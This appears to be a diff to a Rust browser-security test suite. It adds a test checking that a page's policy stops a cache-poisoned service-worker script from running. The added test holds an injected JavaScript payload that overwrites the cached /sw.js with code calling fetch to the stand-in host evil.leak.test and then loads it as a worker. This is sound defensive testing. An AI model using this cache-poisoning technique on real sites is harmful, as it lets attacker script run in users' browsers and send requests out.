@@ -18,6 +18,7 @@ in_every_engine! {
     no_way_out_of_the_app_but_the_known_gaps
     no_way_out_of_the_embed_but_the_known_gaps
     no_page_without_the_policy_comes_out_of_the_kept_files
+    no_worker_without_the_policy_comes_out_of_the_kept_files
     without_the_headers_most_ways_lead_out
 }
 
@@ -55,6 +56,35 @@ async fn no_page_without_the_policy_comes_out_of_the_kept_files(browser: Browser
     // What it put in the place of the Spanish page is not shown: the real one is.
     attack.person.until("return document.documentElement.lang === 'es'").await?;
     attack.person.until_ready().await?;
+    attack.settles().await?;
+    let reached = attack.reached();
+    ensure!(reached.is_empty(), "{reached:?}");
+    Ok(())
+}
+
+/// The policy lets one address be a worker: what is put among the kept files under it is not used.
+async fn no_worker_without_the_policy_comes_out_of_the_kept_files(browser: Browser) -> Result<()> {
+    if !apart(Network::Ears)? {
+        return Ok(());
+    }
+    let script = "
+        addEventListener('load', async () => {
+            const file = self.trustedTypes?.createPolicy('ebb', { createScriptURL: String }) ?? { createScriptURL: String };
+            await navigator.serviceWorker.register(file.createScriptURL('/sw.js'));
+            await navigator.serviceWorker.ready;
+            const headers = { 'Content-Type': 'text/javascript', 'Cross-Origin-Embedder-Policy': 'require-corp' };
+            const evil = new Response('fetch(\"https://evil.leak.test/\", { mode: \"no-cors\" })', { headers });
+            for (const name of await caches.keys()) await (await caches.open(name)).put('/sw.js', evil.clone());
+            if (!navigator.serviceWorker.controller) return location.reload();
+            try { window.evil = new Worker(file.createScriptURL('/sw.js')); } catch {}
+            window.tried = true;
+        });";
+    let armed = |site: Site| {
+        let boot = site.path_of("/boot.*.js");
+        let text = [site.text_of(&boot), script.to_owned()].concat();
+        site.renamed(&boot, text.into_bytes()).renewed()
+    };
+    let attack = Attack::at(browser, Place::open(armed)?, "return window.tried === true").await?;
     attack.settles().await?;
     let reached = attack.reached();
     ensure!(reached.is_empty(), "{reached:?}");
@@ -138,13 +168,18 @@ struct Attack {
 
 impl Attack {
     async fn on(browser: Browser, place: Place) -> Result<Self> {
+        Self::at(browser, place, "return Array.isArray(window.waysOut)").await
+    }
+
+    /// On a page that is there once a script says so.
+    async fn at(browser: Browser, place: Place, is_there: &str) -> Result<Self> {
         let ears = Ears::open()?;
         // A name, and no number: one way out asks for one. The worker is for the number.
         let has_worker = place.ebb.has("/sw.js");
         let page = place.ebb.url();
         let page = if has_worker { page } else { page.replace("127.0.0.1", "localhost") };
         let person = Person::at(browser, &Setting::default(), place, page).await?;
-        person.until("return Array.isArray(window.waysOut)").await?;
+        person.until(is_there).await?;
         let home = RefCell::new(person.web.window().await?);
         Ok(Self { person, ears, home })
     }
